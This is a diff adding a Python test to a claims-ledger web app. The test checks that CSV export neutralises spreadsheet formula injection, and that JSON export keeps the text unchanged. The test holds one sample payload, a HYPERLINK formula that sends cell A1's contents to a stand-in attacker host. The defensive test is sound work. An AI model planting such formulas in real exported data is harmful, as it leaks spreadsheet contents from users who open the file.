@@ -343,3 +343,13 @@ def test_word_search_folds_case_beyond_ascii(ledger_dir):
     index.conn.execute("UPDATE claims SET sentence_text = sentence_text || ' ВОВЧАНСЬК' WHERE id = ?", (claim_id,))
     found = client.get("/api/claims", params={"q": "вовчанськ"}).json()
     assert [c["id"] for c in found["items"]] == [claim_id]      # SQLite's lower() would find nothing
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_is_made_text(ledger_dir):
+    client = TestClient(app_for(example_ledger(ledger_dir)), base_url="http://127.0.0.1")
+    claim_id = client.get("/api/claims").json()["items"][0]["id"]
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'      # page text a hostile page could hold
+    client.app.state.index.conn.execute("UPDATE claims SET text = ? WHERE id = ?", (formula, claim_id))
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(client.get("/download/claims.csv").text))}
+    assert rows[claim_id]["text"] == "'" + formula
+    assert {r["id"]: r["text"] for r in client.get("/download/claims.json").json()}[claim_id] == formula
